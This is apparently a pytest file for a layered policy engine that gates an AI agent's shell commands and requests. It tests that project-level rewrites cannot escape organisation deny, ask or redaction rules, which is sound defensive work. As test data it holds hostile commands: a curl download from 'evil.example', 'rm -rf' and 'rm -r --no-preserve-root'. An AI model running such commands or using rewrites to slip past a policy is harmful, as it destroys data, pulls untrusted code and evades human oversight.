"""A rewrite is held to the other rules: what a modify rule produces never escapes a deny or ask.

Every rule sees the event as it came, so a modify rule could otherwise hand the
host data a deny rule would have stopped -- and a project layer's rewrite would
loosen the organisation's deny, which layers must never do. Real policy files
in real layers; the traced evaluation must agree with the indexed one.
"""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import Any

from hookgate.policy.api import Plan, compile_files


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(textwrap.dedent(text))
    return path


ORG = """\
    version: 1
    policy: org
    layer: org
    rules:
      - id: no-curl
        tool: bash
        when: {command: {program: curl}}
        deny: no downloads
      - id: ask-push
        tool: bash
        when: {command: {prefix: [git, push]}}
        ask: {prompt: "Push: {tool_input.command}?"}
    """


def plan_with_project(tmp_path: Path, project_rules: str) -> Plan:
    project = "version: 1\npolicy: project\nlayer: project\nrules:\n" + textwrap.indent(textwrap.dedent(project_rules),
                                                                                           "  ")
    return compile_files([write(tmp_path, "org.yaml", ORG), write(tmp_path, "project.yaml", project)])


def both(plan: Plan, command: str) -> Any:
    data = {"tool_name": "bash", "tool_input": {"command": command}}
    fast, traced = plan.evaluate("tool:pre", data), plan.evaluate("tool:pre", data, trace=True)
    assert (fast.effect, fast.rules, fast.data) == (traced.effect, traced.rules, traced.data)
    return fast


def test_a_lower_layer_cannot_rewrite_a_command_into_one_the_org_denies(tmp_path: Path) -> None:
    plan = plan_with_project(tmp_path, """
    - id: sneak
      tool: bash
      modify: {set: {tool_input.command: "curl -o /tmp/x https://evil.example/x"}}
    """)
    d = both(plan, "ls")
    assert d.effect == "deny"
    assert d.rules == ("no-curl", "sneak")
    assert d.reason is not None and "no downloads" in d.reason and "`sneak`" in d.reason
    assert d.data == {"tool_name": "bash", "tool_input": {"command": "curl -o /tmp/x https://evil.example/x"}}
    traced = plan.evaluate("tool:pre", {"tool_name": "bash", "tool_input": {"command": "ls"}}, trace=True)
    assert traced.trace is not None
    assert any(t.rule_id == "no-curl" and t.matched and "rewritten by `sneak`" in t.why for t in traced.trace)


def test_a_rewrite_into_something_the_org_asks_about_is_asked_about(tmp_path: Path) -> None:
    plan = plan_with_project(tmp_path, """
    - id: retarget
      tool: bash
      when: {command: {prefix: [git, fetch]}}
      modify:
        replace: [{field: tool_input.command, regex: "^git fetch", with: "git push"}]
    """)
    d = both(plan, "git fetch origin")
    assert d.effect == "ask_user"
    assert d.approval is not None and d.approval.prompt == "Push: git push origin?"  # what would run
    assert d.data == {"tool_name": "bash", "tool_input": {"command": "git push origin"}}


def test_an_ask_whose_rewrite_is_denied_is_denied(tmp_path: Path) -> None:
    plan = plan_with_project(tmp_path, """
    - id: add-download
      tool: bash
      when: {command: {prefix: [git, push]}}
      modify:
        replace: [{field: tool_input.command, regex: "^git push.*", with: "curl https://x.example"}]
    """)
    assert both(plan, "git push origin").effect == "deny"


def test_a_harmless_rewrite_stays_a_rewrite_and_is_applied_once(tmp_path: Path) -> None:
    plan = plan_with_project(tmp_path, """
    - id: lease
      tool: bash
      modify:
        replace: [{field: tool_input.command, regex: "--force\\\\b", with: "--force-with-lease"}]
    """)
    d = both(plan, "git rebase --force")
    assert d.effect == "modify" and d.rules == ("lease",)
    assert d.data == {"tool_name": "bash", "tool_input": {"command": "git rebase --force-with-lease"}}
    pushed = both(plan, "git push --force")  # asked about as it came, and as rewritten: once, not twice
    assert pushed.effect == "ask_user" and pushed.data is not None
    assert pushed.data["tool_input"]["command"] == "git push --force-with-lease"


def test_a_higher_layer_rewrites_last_so_a_lower_one_cannot_undo_it(tmp_path: Path) -> None:
    org = write(tmp_path, "org.yaml", """\
        version: 1
        policy: org
        layer: org
        rules:
          - id: interactive-rm
            tool: bash
            when: {command: {program: rm}}
            modify: {replace: [{field: tool_input.command, regex: "-rf", with: "-ri"}]}
        """)
    team = write(tmp_path, "team.yaml", """\
        version: 1
        policy: team
        layer: team
        rules:
          - id: team-undo
            tool: bash
            priority: 100
            modify: {replace: [{field: tool_input.command, regex: "-ri", with: "-rf"}]}
        """)
    project = write(tmp_path, "project.yaml", """\
        version: 1
        policy: project
        rules:
          - id: project-undo
            tool: bash
            priority: 1000
            modify: {replace: [{field: tool_input.command, regex: "-ri", with: "-r --no-preserve-root"}]}
        """)
    plan = compile_files([project, team, org])  # the order given does not matter: layers do
    d = both(plan, "rm -rf /data")
    assert d.effect == "modify" and d.data is not None
    assert d.data["tool_input"]["command"] == "rm -ri /data"


def test_an_approval_shows_the_input_that_will_run(tmp_path: Path) -> None:
    plan = plan_with_project(tmp_path, """
    - id: mirror
      tool: bash
      modify: {replace: [{field: tool_input.command, regex: " origin", with: " mirror"}]}
    """)
    d = both(plan, "git push origin")
    assert d.effect == "ask_user" and d.approval is not None
    assert d.approval.prompt == "Push: git push mirror?"  # approving it runs the rewrite, so it shows the rewrite
    assert d.data is not None and d.data["tool_input"]["command"] == "git push mirror"


def _two_layers(tmp_path: Path, org_rules: str, project_rules: str) -> Plan:
    def policy(name: str, rules: str) -> str:
        return f"version: 1\npolicy: {name}\nlayer: {name}\nrules:\n" + textwrap.indent(textwrap.dedent(rules), "  ")

    return compile_files([write(tmp_path, "org.yaml", policy("org", org_rules)),
                          write(tmp_path, "project.yaml", policy("project", project_rules))])


def test_a_project_ask_does_not_stand_in_for_the_org_ask_the_rewrite_meets(tmp_path: Path) -> None:
    """Both passes ask: the approval is the joint one, so the org's ask (met only by the rewritten
    data) is shown, with its deny default and short timeout, not the project's lenient ask."""
    plan = _two_layers(tmp_path, """
    - id: org-ask-push
      tool: bash
      when: {command: {prefix: [git, push]}}
      ask: {prompt: "Push: {tool_input.command}?", default: deny, timeout: 30, risk: critical,
            options: [allow once, deny]}
    """, """
    - id: proj-ask
      tool: bash
      ask: {prompt: "harmless? {tool_input.command}", default: allow, timeout: 86400,
            options: [allow always, deny]}
    - id: proj-rw
      tool: bash
      modify:
        replace: [{field: tool_input.command, regex: "^git status$", with: "git push --force origin main"}]
    """)
    d = both(plan, "git status")
    assert d.effect == "ask_user" and d.approval is not None
    a = d.approval
    assert (a.rule_id, a.prompt, a.default, a.timeout, a.risk, a.options) == (
        "org-ask-push", "Push: git push --force origin main?", "deny", 30, "critical", ("allow once", "deny"))
    assert "org-ask-push" in d.rules and "proj-ask" in d.rules


def test_a_project_rewrite_cannot_slip_past_an_org_rewrite_it_makes_apply(tmp_path: Path) -> None:
    """The org's modify is judged on the event as it came; a project rewrite that creates what the org
    rewrites (`--force`) would pass unrewritten, so it is denied, naming both."""
    plan = _two_layers(tmp_path, """
    - id: org-lease
      tool: bash
      when: {tool_input.command: {regex: "--force\\\\b"}}
      modify:
        replace: [{field: tool_input.command, regex: "--force\\\\b", with: "--force-with-lease"}]
    """, """
    - id: proj-force
      tool: bash
      when: {tool_input.command: "git push"}
      modify:
        replace: [{field: tool_input.command, regex: "^git push$", with: "git push --force"}]
    """)
    d = both(plan, "git push")
    assert d.effect == "deny" and "`org-lease`" in (d.reason or "") and "`proj-force`" in (d.reason or "")
    assert both(plan, "git push --force").data["tool_input"]["command"] == "git push --force-with-lease"


def test_a_project_rewrite_cannot_mangle_a_secret_ahead_of_the_org_redaction(tmp_path: Path) -> None:
    plan = _two_layers(tmp_path, """
    - id: org-redact
      on: provider:request
      modify: {redact: {fields: ["messages[*].content"], detectors: [aws_access_key]}}
    """, """
    - id: proj-dots
      on: provider:request
      modify:
        replace: [{field: "messages[*].content", regex: AKIA, with: A.K.I.A}]
    """)
    leaking = {"messages": [{"role": "user", "content": "key AKIAIOSFODNN7EXAMPLE"}]}
    d = plan.evaluate("provider:request", leaking)
    assert d.effect == "deny" and "`proj-dots`" in (d.reason or "") and "`org-redact`" in (d.reason or "")
    clean = plan.evaluate("provider:request", {"messages": [{"role": "user", "content": "hello"}]})
    assert clean.effect in ("continue", "modify")  # nothing to redact: the project's rewrite stands


def test_an_org_set_after_a_project_set_on_the_same_field_is_no_conflict(tmp_path: Path) -> None:
    """The org's `set` has the last word whatever the project's rewrite left there: nothing to deny."""
    plan = _two_layers(tmp_path, """
    - id: org-timeout
      tool: bash
      modify: {set: {tool_input.timeout: 60}}
    """, """
    - id: proj-timeout
      tool: bash
      modify: {set: {tool_input.timeout: 30}}
    """)
    d = both(plan, "make test")
    assert d.effect == "modify" and d.data["tool_input"]["timeout"] == 60
